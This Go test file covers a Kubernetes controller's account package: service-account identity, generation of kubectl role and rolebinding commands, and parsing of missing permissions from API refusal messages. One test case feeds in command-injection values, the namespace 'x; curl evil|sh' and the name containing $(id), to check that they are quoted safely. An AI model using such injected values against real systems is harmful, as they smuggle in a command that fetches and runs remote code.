package account

import (
	"testing"

	"metascript/controller/api/v1alpha1"
)

func TestNoReferenceIsTheServer(t *testing.T) {
	if who := Of(nil); !who.IsServer() {
		t.Errorf("without spec.serviceAccount it is %v", who)
	}
	who := Of(&v1alpha1.ServiceAccountRef{Namespace: "a", Name: "b"})
	if who.IsServer() || who.User() != "system:serviceaccount:a:b" || who.String() != "service account a/b" {
		t.Errorf("%v is user %s", who, who.User())
	}
}

func TestCommandGrantsPermission(t *testing.T) {
	const user = "system:serviceaccount:a:b"
	for _, c := range []struct {
		name string
		Permission
		want string
	}{
		{"in a namespace", Permission{User: user, Verbs: []string{"list", "watch"}, Resource: "pods", Namespace: "c"},
			"kubectl create role b-list-watch-pods --namespace=c --verb=list,watch --resource=pods && kubectl create rolebinding b-list-watch-pods --namespace=c --role=b-list-watch-pods --serviceaccount=a:b"},
		{"everywhere, on a subresource of a group", Permission{User: user, Verbs: []string{"update"}, Group: "example.com", Resource: "widgets/status"},
			"kubectl create clusterrole b-update-widgets-status --verb=update --resource=widgets.example.com/status && kubectl create clusterrolebinding b-update-widgets-status --clusterrole=b-update-widgets-status --serviceaccount=a:b"},
		{"on one object", Permission{User: user, Verbs: []string{"get"}, Resource: "secrets", Namespace: "c", Name: "s.1"},
			"kubectl create role b-get-secrets-s.1 --namespace=c --verb=get --resource=secrets --resource-name=s.1 && kubectl create rolebinding b-get-secrets-s.1 --namespace=c --role=b-get-secrets-s.1 --serviceaccount=a:b"},
		{"with names that are no names", Permission{User: user, Verbs: []string{"get"}, Resource: "secrets", Namespace: "x; curl evil|sh", Name: "it's $(id)"},
			`kubectl create role b-get-secrets-it-s-id --namespace='x; curl evil|sh' --verb=get --resource=secrets --resource-name='it'\''s $(id)' && kubectl create rolebinding b-get-secrets-it-s-id --namespace='x; curl evil|sh' --role=b-get-secrets-it-s-id --serviceaccount=a:b`},
		{"to a user who is no account", Permission{User: "jane@example.com", Verbs: []string{"get"}, Resource: "pods"},
			"kubectl create clusterrole jane-example.com-get-pods --verb=get --resource=pods && kubectl create clusterrolebinding jane-example.com-get-pods --clusterrole=jane-example.com-get-pods --user=jane@example.com"},
	} {
		if got := c.Command(); got != c.want {
			t.Errorf("%s:\ngot  %s\nwant %s", c.name, got, c.want)
		}
	}
}

// The messages are those of API servers.
func TestMissingPermissionIsReadFromRefusal(t *testing.T) {
	tenant := Account{Namespace: "a", Name: "b"}
	for _, c := range []struct {
		message, want string // want is a part of the command; "" if the message does not name a permission
	}{
		{`configmaps is forbidden: User "system:serviceaccount:a:b" cannot create resource "configmaps" in API group "" in the namespace "c"`, "kubectl create role b-create-configmaps --namespace=c --verb=create --resource=configmaps "},
		{`widgets.example.com "w" is forbidden: User "system:serviceaccount:a:b" cannot update resource "widgets/status" in API group "example.com" at the cluster scope`, "kubectl create clusterrole b-update-widgets-status --verb=update --resource=widgets.example.com/status "},
		{`serviceaccounts "b" is forbidden: User "system:serviceaccount:home:server" cannot impersonate resource "serviceaccounts" in API group "" in the namespace "a"`, "kubectl create role server-impersonate-serviceaccounts-b --namespace=a --verb=impersonate --resource=serviceaccounts --resource-name=b && "},
		{`configmaps "x" is forbidden: User "system:serviceaccount:home:server" cannot impersonate-on:serviceaccount:update resource "configmaps" in API group "" in the namespace "c"`, "kubectl create role server-impersonate-serviceaccounts-b --namespace=a --verb=impersonate --resource=serviceaccounts --resource-name=b && "},
		{`pods "p" is forbidden: exceeded quota: few, requested: pods=1, used: pods=3, limited: pods=3`, ""},
		{`admission webhook "x" denied the request: no`, ""},
	} {
		missing, known := tenant.Refused(c.message)
		if known != (c.want != "") || known && missing.Command()[:len(c.want)] != c.want {
			t.Errorf("%s:\ngot  %s, known: %t\nwant %s", c.message, missing.Command(), known, c.want)
		}
	}
}
